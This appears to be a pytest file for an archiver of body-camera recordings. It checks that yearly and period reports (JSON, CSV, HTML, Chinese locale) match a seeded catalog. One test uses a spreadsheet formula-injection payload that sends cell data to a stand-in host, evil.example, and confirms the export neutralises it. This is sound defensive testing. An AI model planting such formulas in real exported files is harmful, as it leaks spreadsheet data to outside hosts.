"""`report year`: on a seeded catalog (six recorders, cases with known gaps, late docks and backup lag made
on purpose) every figure is what the seeding implies; the HTML's bars, screenshotted in headless
Chromium, stand as tall as the monthly counts."""

from __future__ import annotations

import csv
import json
import re
import subprocess
from datetime import datetime, timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from conftest import chromium
from PIL import Image

from archiver.archive.workspace import open_workspace
from archiver.cases.casefile import ActionRecord, CaseRecord
from archiver.cases.links import import_cases
from archiver.catalog import BackupObject, Recording, VerifyRun
from archiver.catalog.db import commit
from archiver.config import load_config
from archiver.i18n import speaking

TZ = ZoneInfo("Asia/Shanghai")
CASES_PER_KIND = 8  # per month: 8 cases of each kind A, B, D (288 cases in the year)
BAR = (0x1F, 0x77, 0xB4)


def _seed(data: Path, config: Path) -> None:
    """For each month m of 2022 and each recorder r: m videos of 10 min on the 5th from 09:00, every 20 min;
    docked 2 h after they end, except recorder 0's first of each month (30 h: late). Three recordings on
    each side of the year. Per month: case A (a required action fully covered, and one not required),
    case B (required, 5 min beyond its footage: a gap), case D (required, an officer with no footage)."""
    ws = open_workspace(load_config(config, data), upgrade=True)
    try:
        with ws.catalog.session() as session:
            serial = 0

            def add(begin: datetime, recorder: int, late: bool) -> Recording:
                nonlocal serial
                serial += 1
                end = begin + timedelta(minutes=10)
                rec = Recording(sha256=f"{serial:064x}", size=1000, media_type="video", original_path=f"{serial}.MP4",
                                device_serial=f"TA{recorder:05d}", officer_no=f"JX{recorder:04d}", start=begin,
                                end=end, duration_s=600.0, archive_path=f"archive/x/{serial}.MP4",
                                ingested_at=end + timedelta(hours=30 if late else 2), verified_at=end, flags=[])
                session.add(rec)
                return rec

            in_year = []
            for month in range(1, 13):
                for recorder in range(6):
                    for k in range(month):
                        begin = datetime(2022, month, 5, 9, tzinfo=TZ) + timedelta(minutes=20 * k)
                        in_year.append(add(begin, recorder, late=recorder == 0 and k == 0))
            for day in (datetime(2021, 12, 31, 9, tzinfo=TZ), datetime(2023, 1, 1, 9, tzinfo=TZ)):
                for recorder in range(3):
                    add(day, recorder, late=True)
            session.flush()
            for rec in in_year[10:]:  # ten recordings not yet on the one target
                session.add(BackupObject(target=str(data.parent / "t1"), name=f"objects/{rec.sha256}.age",
                                         kind="recording", recording_id=rec.id, plain_sha256=rec.sha256,
                                         ciphertext_sha256=rec.sha256, size=1, at=rec.ingested_at))
            for when, problems in ((datetime(2022, 3, 1, tzinfo=TZ), [{"kind": "missing"}]),
                                   (datetime(2022, 9, 1, tzinfo=TZ), []),
                                   (datetime(2023, 2, 1, tzinfo=TZ), [{"kind": "missing"}] * 5)):
                session.add(VerifyRun(scope="all", finished_at=when, checked=1, ok=1, remaining=0, problems=problems))
            commit(session)
        records = []
        for month in range(1, 13):
            day = datetime(2022, month, 5, tzinfo=TZ)

            def at(hour: int, minute: int, day: datetime = day) -> datetime:
                return day.replace(hour=hour, minute=minute)

            for i in range(CASES_PER_KIND):
                records += [
                    CaseRecord(f"A-{month}-{i}", "a", [
                        ActionRecord("调查取证", ("JX0000",), at(9, 1), at(9, 9), True),
                        ActionRecord("送达", ("JX0002",), at(9, 0), at(9, 5), False)], kind="行政处罚"),
                    CaseRecord(f"B-{month}-{i}", "b", [
                        ActionRecord("调查取证", ("JX0001",), at(9, 0), at(9, 15), True)], kind="检查"),
                    CaseRecord(f"D-{month}-{i}", "d", [ActionRecord("执行", ("JX9999",), at(14, 0), at(14, 30), True)]),
                ]
        import_cases(ws.catalog, records, ws.cfg.linking)
    finally:
        ws.close()


@pytest.fixture
def seeded(tmp_path: Path, cli):
    data = tmp_path / "data"
    config = tmp_path / "archiver.toml"
    (tmp_path / "t1").mkdir()
    config.write_text(f"[backup]\ntargets = ['{tmp_path / 't1'}']\n[linking]\nclock_tolerance_s = 0\n")
    _seed(data, config)
    return lambda *args: cli(*args, config=config, data=data)


def test_every_figure_of_the_year_is_what_the_seeding_implies(seeded, tmp_path: Path):
    result = seeded("report", "year", "2022", "--json", "--csv", tmp_path / "csv", "--html", tmp_path / "y.html")
    assert result.exit_code == 0, result.output
    year = json.loads(result.stdout)
    assert (year["recorders"], year["recordings"], year["video_hours"], year["audio_hours"], year["photos"]) == \
        (6, 6 * 78, 78.0, 0.0, 0)
    n = CASES_PER_KIND
    assert (year["cases"], year["actions"], year["required_actions"], year["compliant_actions"]) == \
        (36 * n, 48 * n, 36 * n, 12 * n)
    assert year["compliance_rate"] == round(1 / 3, 4)
    kinds = {k["kind"]: (k["cases"], k["actions"], k["required_actions"], k["compliant_actions"])
             for k in year["by_kind"]}
    assert kinds == {"permit": (0, 0, 0, 0), "penalty": (12 * n, 24 * n, 12 * n, 12 * n),
                     "coercion": (0, 0, 0, 0), "levy": (0, 0, 0, 0), "requisition": (0, 0, 0, 0),
                     "inspection": (12 * n, 12 * n, 12 * n, 0), "other": (12 * n, 12 * n, 12 * n, 0)}
    assert len(year["gaps"]) == 24 * n and len(year["unrecorded_actions"]) == 12 * n
    assert {g["case_no"][0] for g in year["gaps"]} == {"B", "D"}
    b_gap = next(g for g in year["gaps"] if g["case_no"] == "B-1-0")
    assert (b_gap["start"], b_gap["end"]) == ("2022-01-05T09:10:00+08:00", "2022-01-05T09:15:00+08:00")
    assert year["late_docks"] == 12 and year["late_dock_hours"] == 24
    assert year["dock_delay_hours"]["median"] == 2.0 and year["dock_delay_hours"]["p95"] == 2.0
    assert year["per_recorder"]["TA00000"] == {"recordings": 78, "video_hours": 13.0, "audio_hours": 0.0,
                                               "photos": 0, "bytes": 78000, "late_docks": 12}
    assert year["per_officer"]["JX0005"]["late_docks"] == 0
    assert year["backups"]["not_on_every_target"] == 10
    assert (year["verify_runs"], year["verify_problems"]) == (2, 1)
    assert [m["month"] for m in year["months"]] == [f"2022-{m:02d}" for m in range(1, 13)]
    for m, month in enumerate(year["months"], 1):
        assert (month["recorders"], month["recordings"], month["video_hours"], month["cases"], month["actions"],
                month["required_actions"], month["compliant_actions"], month["late_docks"]) == \
            (6, 6 * m, m, 3 * n, 4 * n, 3 * n, n, 1), month
    for key in ("recorders", "recordings", "video_hours", "cases", "required_actions", "compliant_actions",
                "compliance_rate", "late_docks", "months"):
        assert key in year
    # the CSV tables open in Excel (UTF-8 with BOM), one per file
    months = (tmp_path / "csv" / "months.csv").read_bytes()
    assert months.startswith("\ufeff".encode())
    rows = list(csv.DictReader(months.decode("utf-8-sig").splitlines()))
    assert [int(r["recordings"]) for r in rows] == [6 * m for m in range(1, 13)]
    assert (tmp_path / "csv" / "gaps.csv").read_text(encoding="utf-8-sig").count("\n") == 24 * n + 1
    # a period: the same counting, any bounds
    march = json.loads(seeded("report", "period", "--since", "2022-03-01", "--until", "2022-04-01", "--json").stdout)
    assert (march["recordings"], march["cases"], march["late_docks"]) == (18, 3 * n, 1)


def test_the_html_is_self_contained_and_its_bars_match_the_months(seeded, tmp_path: Path):
    page = tmp_path / "year.html"
    assert seeded("report", "year", "2022", "--html", page).exit_code == 0
    html = page.read_text(encoding="utf-8")
    assert "<script" not in html and not re.search(r"""(src|href)=["']?(https?:|//)""", html)
    assert "@page { size: A4" in html and '<html lang="en">' in html and "Recordings per month" in html
    chinese = tmp_path / "年度.html"
    with speaking("zh_CN"):  # what a person with a Chinese locale gets
        assert seeded("report", "year", "2022", "--html", chinese).exit_code == 0
    zh = chinese.read_text(encoding="utf-8")
    assert '<html lang="zh-CN">' in zh and "每月记录文件数" in zh and "执法全过程记录率" in zh
    assert "2022 年执法记录情况" in zh
    first = html[html.index('id="recordings-per-month"'):html.index("</svg>", html.index('id="recordings-per-month"'))]
    assert [float(v) for v in re.findall(r'data-value="([\d.]+)"', first)] == [6 * m for m in range(1, 13)]
    shot = tmp_path / "year.png"
    subprocess.run([chromium(), "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
                    "--disable-background-networking", "--disable-component-update", "--disable-sync",
                    f"--user-data-dir={tmp_path / 'profile'}", "--hide-scrollbars", "--window-size=900,1200",
                    f"--screenshot={shot}", page.as_uri()], check=True, capture_output=True, timeout=120)
    image = Image.open(shot).convert("RGB")
    width, height = image.size
    pixels = image.load()
    rows = [y for y in range(height) if any(_bar(pixels[x, y]) for x in range(width))]
    assert rows, "no bar drawn"
    band_end = next((b for a, b in zip(rows, rows[1:], strict=False) if b - a > 20), rows[-1])
    band = [y for y in rows if y <= band_end]  # the first chart: recordings per month
    columns = [x for x in range(width) if any(_bar(pixels[x, y]) for y in band)]
    bars, run = [], [columns[0]]
    for x in columns[1:]:
        if x - run[-1] > 1:
            bars.append(run)
            run = []
        run.append(x)
    bars.append(run)
    heights = [sum(1 for y in band if _bar(pixels[run[len(run) // 2], y])) for run in bars]
    assert len(heights) == 12, heights
    for m, h in enumerate(heights, 1):
        assert abs(h / heights[-1] - m / 12) < 0.03, (m, heights)


def _bar(pixel: tuple[int, int, int]) -> bool:
    return all(abs(a - b) < 12 for a, b in zip(pixel, BAR, strict=True))


def test_csv_cells_that_a_spreadsheet_would_run_are_text(cli, recorder: Path, tmp_path: Path, data_dir: Path):
    """A retrieval reason written as a formula reaches the auditor's spreadsheet as the text it is."""
    from datetime import date

    from archiver.audit.annual import inert

    assert cli("ingest", recorder).exit_code == 0
    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    assert cli("recordings", "get", "1", tmp_path / "out", "--reason", formula).exit_code == 0
    done = cli("report", "year", str(date.today().year), "--csv", tmp_path / "csv")
    assert done.exit_code == 0, done.output
    rows = list(csv.DictReader((tmp_path / "csv" / "retrievals.csv").read_text(encoding="utf-8-sig").splitlines()))
    assert [r["reason"] for r in rows] == ["'" + formula]
    assert [inert(v) for v in ("+1", "-2", "@SUM(A1)", "\tx", "\rx", "plain", 5, -3)] == \
        ["'+1", "'-2", "'@SUM(A1)", "'\tx", "'\rx", "plain", 5, -3]
    # the hand-over is in the trail: which files, and what each held
    import hashlib

    events = [json.loads(line) for line in (data_dir / "custody.jsonl").read_text().splitlines()]
    (handover,) = [e for e in events if e["action"] == "handover"]
    files = handover["details"]["files"]
    assert set(files) == {p.name for p in (tmp_path / "csv").iterdir()}
    assert files["retrievals.csv"] == hashlib.sha256((tmp_path / "csv" / "retrievals.csv").read_bytes()).hexdigest()


def test_the_report_as_a_chinese_office_files_it(seeded, tmp_path: Path):
    """In Chinese: the CSV columns named in Chinese, the unit heading the page and a signature line at its foot,
    the kinds of action counted apart, a month with nothing to record shown as "—", never as 0 %."""
    config = tmp_path / "archiver.toml"
    config.write_text(config.read_text() + "[report]\nunit = \"后叶镇综合行政执法大队\"\n")
    with speaking("zh_CN"):
        done = seeded("report", "period", "--since", "2021年12月1日", "--until", "2022-02-01", "--csv",
                      tmp_path / "csv", "--html", tmp_path / "p.html")
        assert done.exit_code == 0, done.output
        lines = {line.split()[0]: " ".join(line.split()[1:]) for line in done.stdout.splitlines()[1:]}
        assert lines["行政处罚"] == "案件 8 件，执法环节 16 个，需要记录 8 个，无空档 8 个（100.0%）"
        assert lines["行政检查"].startswith("案件 8 件") and "行政许可" not in lines  # kinds with nothing: left out
        assert "中位数 2.0 小时" in done.stdout
    months = list(csv.DictReader((tmp_path / "csv" / "months.csv").read_text(encoding="utf-8-sig").splitlines()))
    assert list(months[0])[:3] == ["月份", "执法记录仪", "记录文件"]
    assert (months[0]["月份"], months[0]["需要记录的执法环节"], months[0]["执法全过程记录率"]) == ("2021-12", "0", "")
    kinds = list(csv.DictReader((tmp_path / "csv" / "kinds.csv").read_text(encoding="utf-8-sig").splitlines()))
    assert [(k["执法行为类别"], k["案件"]) for k in kinds][:2] == [("行政许可", "0"), ("行政处罚", "8")]
    page = (tmp_path / "p.html").read_text()
    assert '<p class="unit">后叶镇综合行政执法大队</p>' in page
    assert "单位：后叶镇综合行政执法大队" in page and "制表人：" in page and "审核人：" in page
    chart = page[page.index('id="compliance-per-month"'):page.index("</svg>", page.index('id="compliance-per-month"'))]
    assert chart.count('class="none"') == 1 and chart.count('class="bar"') == 1  # December: "—", no bar
    assert "<td>2021-12</td><td>3</td><td>0.5</td><td>0</td><td>0</td><td>0</td><td>—</td>" in page
